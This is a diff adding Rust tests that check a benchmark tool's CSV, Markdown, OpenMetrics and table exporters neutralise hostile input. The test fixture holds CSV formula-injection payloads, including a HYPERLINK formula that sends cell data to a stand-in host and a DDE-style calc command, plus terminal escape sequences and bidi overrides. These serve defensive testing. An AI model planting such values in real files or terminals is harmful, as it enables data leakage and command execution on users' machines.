@@ -99,3 +99,136 @@ fn table_shows_hardware_counts_per_operation_when_present() {
     assert!(t.contains("counters per operation:"));
     assert!(t.contains("llc_load_misses_per_load 0.250"), "{t}");
 }
+
+/// A params file as a stranger may write it: a formula, an ANSI escape sequence, a line
+/// break and a bidi override in target names, ids, keys, the CPU model, a skipped reason
+/// and a warning; and a target that is a plain negative number.
+fn hostile() -> ParamsFile {
+    let mut f = sample();
+    f.measurements[0].target = "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")".into();
+    f.measurements[0].id = "@SUM(1+1)*cmd|' /C calc'!A0".into();
+    f.measurements[1].target = "\u{1b}[2J\u{1b}[31mred\u{1b}[0m\nnext\u{202e}".into();
+    f.measurements[1].id = "-1.5".into();
+    f.measurements[1].benchmark = "\tmem.latency\r".into();
+    f.environment.cpu.model = "cpu\u{1b}]0;owned\u{7}".into();
+    f.params
+        .insert("mem_lat_ns@\u{1b}[31manon\u{9b}".into(), 90.0);
+    f.skipped.push(bench_core::params::Skipped {
+        benchmark: "mem.loaded".into(),
+        target: "\u{1b}[1Aup".into(),
+        reason: "reason\u{1b}[K".into(),
+    });
+    f.warnings.push(bench_core::params::Warning {
+        code: "x".into(),
+        message: "warn\u{1b}c".into(),
+        remediation: "fix\u{1b}[H".into(),
+    });
+    f
+}
+
+fn assert_no_control(text: &str, what: &str) {
+    for l in text.lines() {
+        assert!(
+            !l.chars().any(crate::output::text::is_unsafe),
+            "{what}: a control character in {l:?}"
+        );
+    }
+}
+
+#[test]
+fn csv_neutralises_formulas_and_escapes_control_characters() {
+    let f = hostile();
+    let text = CsvExporter.render(&f).unwrap();
+    assert_no_control(&text, "csv");
+    let mut r = csv::Reader::from_reader(text.as_bytes());
+    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.unwrap()).collect();
+    assert_eq!(rows.len(), f.measurements.len(), "one row per measurement");
+    assert_eq!(&rows[0][2], "'=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")");
+    assert_eq!(&rows[0][0], "'@SUM(1+1)*cmd|' /C calc'!A0");
+    assert_eq!(
+        &rows[1][2],
+        "\\x1b[2J\\x1b[31mred\\x1b[0m\\x0anext\\u{202e}"
+    );
+    assert_eq!(&rows[1][1], "'\\x09mem.latency\\x0d");
+    // A plain number stays that number, and the numeric columns stay bare numbers.
+    assert_eq!(&rows[1][0], "-1.5");
+    assert!(text.starts_with(&format!("{}\n", COLUMNS.join(","))));
+    for l in text.lines().skip(1) {
+        assert!(l.starts_with('"') || l.starts_with("-1.5,"), "{l}");
+    }
+    for (row, m) in rows.iter().zip(&f.measurements) {
+        for (i, v) in values(m).iter().enumerate() {
+            assert_eq!(row[5 + i].parse::<f64>().unwrap(), *v);
+        }
+    }
+    // Every text cell is quoted; no cell of the file starts a formula unquoted.
+    for l in text.lines() {
+        for c in ['=', '+', '@', '\t', '\r'] {
+            assert!(!l.starts_with(c) && !l.contains(&format!(",{c}")), "{l}");
+        }
+    }
+}
+
+#[test]
+fn text_cells_keep_plain_numbers_and_neutralise_the_rest() {
+    use super::csv::text_cell;
+    for n in ["-1.5", "+3", "2e-9", "-0", "42"] {
+        assert_eq!(text_cell(n), n);
+    }
+    for (s, want) in [
+        ("=1+1", "'=1+1"),
+        ("+1+cmd", "'+1+cmd"),
+        ("-2+3", "'-2+3"),
+        ("-inf", "'-inf"),
+        ("@A1", "'@A1"),
+        ("\t=1", "'\\x09=1"),
+        ("\r=1", "'\\x0d=1"),
+        ("\u{ff1d}1+1", "'\u{ff1d}1+1"),
+        ("node:1", "node:1"),
+        ("a=b", "a=b"),
+    ] {
+        assert_eq!(text_cell(s), want, "{s:?}");
+    }
+}
+
+#[test]
+fn markdown_escapes_control_characters() {
+    let text = MarkdownExporter.render(&hostile()).unwrap();
+    assert_no_control(&text, "markdown");
+    assert!(text.contains("\\x1b[2J"), "{text}");
+}
+
+#[test]
+fn openmetrics_escapes_control_characters_in_labels_and_help() {
+    let text = super::openmetrics::OpenMetricsExporter
+        .render(&hostile())
+        .unwrap();
+    assert_no_control(&text, "openmetrics");
+    assert!(
+        text.contains("target=\"\\\\x1b[2J\\\\x1b[31mred\\\\x1b[0m\\\\x0anext\\\\u{202e}\""),
+        "{text}"
+    );
+    assert!(
+        text.contains("key=\"mem_lat_ns@\\\\x1b[31manon\\\\u{9b}\""),
+        "{text}"
+    );
+}
+
+#[test]
+fn the_table_escapes_control_characters_and_keeps_one_row_per_line() {
+    let f = hostile();
+    let text = super::table::TableExporter.render(&f).unwrap();
+    assert_no_control(&text, "table");
+    assert!(text.contains("cpu\\x1b]0;owned\\x07"), "{text}");
+    assert!(text.contains("reason\\x1b[K"), "{text}");
+    assert!(text.contains("warn\\x1bc"), "{text}");
+    assert!(text.contains("fix\\x1b[H"), "{text}");
+    // The row of the measurement with a line break in its target is one line.
+    let rows: Vec<&str> = text
+        .lines()
+        .skip_while(|l| !l.starts_with("measurement "))
+        .skip(1)
+        .take_while(|l| !l.is_empty())
+        .collect();
+    assert_eq!(rows.len(), f.measurements.len(), "{text}");
+}
